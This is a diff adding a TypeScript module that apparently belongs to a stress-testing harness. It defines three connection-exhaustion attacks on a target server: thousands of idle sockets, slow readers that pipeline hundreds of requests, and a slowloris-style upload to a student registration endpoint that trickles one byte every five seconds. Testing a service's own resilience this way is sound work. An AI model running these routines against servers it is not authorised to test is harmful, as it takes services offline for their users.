@@ -1,0 +1,82 @@
+import { createRegistrationFields, encodeForm } from '../registration-form.ts'
+import type { Attack } from './attack.ts'
+import { encodeRequest, holdOpen } from './attack.ts'
+
+/** Half of them ask once and then keep the connection, the others never say a word. */
+export const idleSockets: Attack = {
+  summary: '6,000 connections that stay open and say nothing',
+  async prepare(target) {
+    const call = encodeRequest({ method: 'GET', path: '/healthz' })
+    let opened = 0
+    return (tally, signal) =>
+      holdOpen(
+        target,
+        {
+          connections: 6_000,
+          batchSize: 250,
+          onConnect(socket) {
+            socket.resume()
+            if (opened++ % 2 === 0) socket.write(call)
+          },
+        },
+        { tally, signal },
+      )
+  },
+}
+
+/** Half of them ask for a few pages, the others for 300 in one breath; nobody reads a byte. */
+export const slowReaders: Attack = {
+  summary: '500 connections that ask for pages, half of them for 300 at once, and read none',
+  async prepare(target) {
+    const call = encodeRequest({ method: 'GET', path: '/' })
+    const few = Buffer.concat(Array.from({ length: 3 }, () => call))
+    const many = Buffer.concat(Array.from({ length: 300 }, () => call))
+    let opened = 0
+    return (tally, signal) =>
+      holdOpen(
+        target,
+        {
+          connections: 500,
+          batchSize: 50,
+          onConnect(socket) {
+            socket.pause()
+            socket.write(opened++ % 2 === 0 ? few : many)
+          },
+        },
+        { tally, signal },
+      )
+  },
+}
+
+const fileBytes = 5 * 1024 * 1024 - 1
+const missingBytes = 64 * 1024
+const dribbleEveryMs = 5_000
+
+/** Each sends two pictures but for the last 64 KB, of which a byte comes every five seconds. */
+export const halfSentUploads: Attack = {
+  summary: '150 registrations with two 5 MB pictures that never end',
+  async prepare(target) {
+    const picture = Buffer.alloc(fileBytes, 'x')
+    const { type, body } = await encodeForm(createRegistrationFields('half@example.com'), {
+      aadharFront: picture,
+      aadharBack: picture,
+    })
+    const whole = encodeRequest({ path: '/api/students/register', type, body })
+    const partial = whole.subarray(0, whole.length - missingBytes)
+    return (tally, signal) =>
+      holdOpen(
+        target,
+        {
+          connections: 150,
+          batchSize: 10,
+          onConnect(socket) {
+            socket.write(partial)
+            const dribbleTimer = setInterval(() => socket.write('x'), dribbleEveryMs)
+            socket.once('close', () => clearInterval(dribbleTimer))
+            socket.once('data', () => socket.destroy())
+          },
+        },
+        { tally, signal },
+      )
+  },
+}
